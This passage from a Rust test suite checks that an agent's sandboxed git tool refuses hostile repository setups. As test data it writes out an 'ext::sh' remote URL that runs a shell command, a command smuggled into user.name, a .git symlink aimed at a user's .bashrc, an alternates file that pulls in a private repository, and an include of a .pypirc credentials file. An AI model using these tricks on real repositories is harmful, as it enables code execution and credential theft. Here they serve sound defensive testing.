                prop_assert!(!canary.exists(), "{key}: the planted program ran at {args}");
                match &out.result {
                    // A setting outside the ordinary ones refuses the call, naming it (or git
                    // itself cannot read the repository with it, or refuses to work with it: a
                    // fetch refspec that is a command line is "fatal: invalid refspec").
                    Err(e) if !ordinary.contains(&key.as_str()) => {
                        let said = e.to_string().to_ascii_lowercase();
                        prop_assert!(
                            said.contains(&key.to_ascii_lowercase())
                                || said.contains("bad")
                                || said.contains("git could not")
                                || said.contains("fatal:"),
                            "{key}: {said}"
                        );
                        return Ok(());
                    }
                    Err(e) => prop_assert!(false, "{key}: an ordinary setting refused: {e}"),
                    Ok(_) => {}
                }
            }
            let log = git(&["-c", "core.fsmonitor=false", "log", "--oneline", "-1"]);
            prop_assert!(
                String::from_utf8_lossy(&log.stdout).contains("one"),
                "{key}: no commit"
            );
            Ok(())
        })
        .unwrap();
}

/// The review shows where the git tool reaches, resolved from the repository: its top folder
/// and every address of a remote. A remote that is a folder (whose hooks a push would run) or a
/// program is refused, so is a history kept outside the workspace, and names that could be read
/// as options or a forced push.
#[tokio::test(flavor = "multi_thread")]
async fn the_git_tool_reaches_what_the_repository_resolves_to_and_refuses_the_rest() {
    let (h, _yes) = setup();
    let ws = &h.workspace;
    git(ws, &["init", "-q", "-b", "main"]);
    git(ws, &["config", "user.name", "t"]);
    git(ws, &["config", "user.email", "t@x"]);
    git(ws, &["init", "-q", "--bare", "-b", "main", "remote.git"]);
    git(ws, &["remote", "add", "folder", "./remote.git"]);
    git(
        ws,
        &["remote", "add", "origin", "https://code.example/o/r.git"],
    );
    git(
        ws,
        &[
            "config",
            "--add",
            "remote.origin.url",
            "git@mirror.example:o/r.git",
        ],
    );
    // An included file (a team's shared settings) is read as usual.
    std::fs::write(ws.join("team.gitconfig"), "[user]\n\tname = team\n").unwrap();
    git(ws, &["config", "include.path", "../team.gitconfig"]);
    call(&h, "git", json!({"action": "add", "paths": ["inside.txt"]}))
        .await
        .result
        .unwrap();
    call(&h, "git", json!({"action": "commit", "message": "first"}))
        .await
        .result
        .unwrap();
    let author = std::process::Command::new("git")
        .args(["log", "-1", "--format=%an"])
        .current_dir(ws)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&author.stdout).trim(), "team");

    // Every address the remote has is shown; git pushes to all of them.
    let push = json!({"action": "push", "branch": "main"});
    let shown = h.scheduler.explain("git", &push, "conv", None).unwrap();
    assert_eq!(
        shown.effects,
        [
            cowork_contract::Effect::NetFetch {
                origin: "https://code.example".into()
            },
            cowork_contract::Effect::NetFetch {
                origin: "ssh://mirror.example".into()
            },
        ]
    );
    let refused = |out: CallOutcome| out.result.unwrap_err().to_string();
    let err = refused(
        call(
            &h,
            "git",
            json!({"action": "push", "remote": "folder", "branch": "main"}),
        )
        .await,
    );
    assert!(err.contains("not a network address"), "{err}");
    let err = refused(call(&h, "git", json!({"action": "push", "branch": "+main"})).await);
    assert!(err.contains("not a branch name"), "{err}");
    let err = refused(
        call(
            &h,
            "git",
            json!({"action": "switch", "branch": "--orphan=x"}),
        )
        .await,
    );
    assert!(err.contains("not a branch name"), "{err}");
    let err = refused(
        call(
            &h,
            "git",
            json!({"action": "fetch", "remote": "https://elsewhere.example/r"}),
        )
        .await,
    );
    assert!(err.contains("no remote named"), "{err}");
    git(
        ws,
        &[
            "remote",
            "add",
            "evil",
            "ext::sh -c touch% /tmp/cowork-git-ext-canary",
        ],
    );
    let err = refused(call(&h, "git", json!({"action": "commit", "message": "x"})).await);
    assert!(
        err.contains("remote.evil.url"),
        "a program as an address refuses every call: {err}"
    );
    assert!(!Path::new("/tmp/cowork-git-ext-canary").exists());
    git(ws, &["remote", "remove", "evil"]);

    // A history kept outside the workspace is not written from here.
    let elsewhere = h.dir.path().join("outside/history");
    git(
        h.dir.path(),
        &["init", "-q", &elsewhere.display().to_string()],
    );
    std::fs::create_dir_all(ws.join("pointer")).unwrap();
    std::fs::write(
        ws.join("pointer/.git"),
        format!("gitdir: {}/.git\n", elsewhere.display()),
    )
    .unwrap();
    let err = call(&h, "git", json!({"action": "stash", "cwd": "pointer"}))
        .await
        .result
        .unwrap_err();
    assert!(
        matches!(err, ToolError::SecurityViolation { .. }),
        "{err:?}"
    );
}

/// The second review's cases: git runs confined, so a link inside the repository's git directory
/// to a file outside (the person's `.bashrc`) writes nothing there, an alternate object store
/// outside brings nothing in, and a refusal names settings, never their values (an include may
/// read a file of secrets).
#[tokio::test(flavor = "multi_thread")]
async fn the_git_tool_reaches_nothing_outside_through_the_repository() {
    let (h, _yes) = setup();
    let ws = &h.workspace;
    let outside = h.dir.path().join("outside");
    let bashrc = h.dir.path().join("userhome/.bashrc");
    std::fs::write(&bashrc, "# the person's\n").unwrap();
    git(ws, &["init", "-q", "-b", "main"]);
    git(ws, &["config", "user.name", "x;touch /tmp/never;y"]);
    git(ws, &["config", "user.email", "t@x"]);
    git(ws, &["add", "inside.txt"]);
    git(ws, &["commit", "-qm", "one"]);
    std::fs::remove_file(ws.join(".git/logs/HEAD")).unwrap();
    std::os::unix::fs::symlink(&bashrc, ws.join(".git/logs/HEAD")).unwrap();
    std::fs::write(ws.join("inside.txt"), "changed\n").unwrap();
    let _ = call(
        &h,
        "git",
        json!({"action": "commit", "all": true, "message": "two"}),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "# the person's\n"
    );

    // Another repository's objects, named as an alternate, with a ref linked to its branch.
    let private = outside.join("private");
    std::fs::create_dir_all(&private).unwrap();
    git(&private, &["init", "-q", "-b", "main"]);
    std::fs::write(private.join("secret.env"), SECRET).unwrap();
    git(&private, &["add", "secret.env"]);
    git(
        &private,
        &[
            "-c",
            "user.name=p",
            "-c",
            "user.email=p@x",
            "commit",
            "-qm",
            "private",
        ],
    );
    std::fs::write(
        ws.join(".git/objects/info/alternates"),
        format!("{}\n", private.join(".git/objects").display()),
    )
    .unwrap();
    std::os::unix::fs::symlink(
        private.join(".git/refs/heads/main"),
        ws.join(".git/refs/heads/loot"),
    )
    .unwrap();
    let _ = call(&h, "git", json!({"action": "switch", "branch": "loot"})).await;
    assert!(
        !ws.join("secret.env").exists(),
        "the outside repository's files came in"
    );

    // A refusal names the settings an include brought, not their values.
    std::fs::write(
        h.dir.path().join("userhome/.pypirc"),
        "[pypi]\n\tusername = __token__\n\tpassword = pypi-SECRET\n",
    )
    .unwrap();
    git(
        ws,
        &[
            "config",
            "include.path",
            &h.dir.path().join("userhome/.pypirc").display().to_string(),
        ],
    );
    let err = call(&h, "git", json!({"action": "stash"}))
        .await
        .result
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("pypi.password") && !err.contains("pypi-SECRET"),
        "{err}"
    );
}

/// A cancelled fetch ends git's whole tree, its remote helper too, not only the sandbox's first
/// process: the remote here accepts and never answers, so the helper would wait forever.
#[tokio::test(flavor = "multi_thread")]
async fn a_cancelled_git_fetch_ends_its_remote_helper() {
    let (h, _yes) = setup();
    let ws = &h.workspace;
    git(ws, &["init", "-q", "-b", "main"]);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("127.0.0.1:{}", listener.local_addr().unwrap().port());
    let silent = tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((stream, _)) = listener.accept().await {
            held.push(stream);
        }
    });
    git(
        ws,
        &[
            "remote",
            "add",
            "origin",
            &format!("http://{address}/r.git"),
        ],
    );
    let helpers = || processes_naming(&address);
    // The person's rule: a fetch from this machine would otherwise be refused by default.
    h.scheduler
        .policy()
        .add_rule(
            cowork_core::policy::Action::Allow,
            "git",
            cowork_core::RuleSource::User,
        )
        .unwrap();
    let cancel = tokio_util::sync::CancellationToken::new();
    let mut request = CallRequest::new("git", json!({"action": "fetch"}), Caller::Chat, "conv");
    request.cancel = cancel.clone();
    let fetch = tokio::spawn({
        let scheduler = h.scheduler.clone();
        async move { scheduler.call(request).await }
    });
    cowork_tests::wait::until_true("git's remote helper to start", || {
        if fetch.is_finished() {
            return Ok(());
        }
        match helpers() {
            0 => Err("none".into()),
            _ => Ok(()),
        }
    })
    .await;
    assert!(!fetch.is_finished(), "{:?}", fetch.await.unwrap().result);
    cancel.cancel();
    let ended = fetch.await.unwrap();
    assert!(
        matches!(ended.result, Err(ToolError::Cancelled)),
        "{:?}",
        ended.result
    );
    cowork_tests::wait::until_true("git's remote helper to end", || match helpers() {
        0 => Ok(()),
        n => Err(format!("{n} still running")),
    })
    .await;
    silent.abort();
}

/// How many processes have `needle` in their command line (a zombie's is empty).
fn processes_naming(needle: &str) -> usize {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .filter(|cmd| String::from_utf8_lossy(cmd).contains(needle))
        .count()
}

/// Runs the person's git in `dir` (setting a repository up), which must succeed.
fn git(dir: &Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}
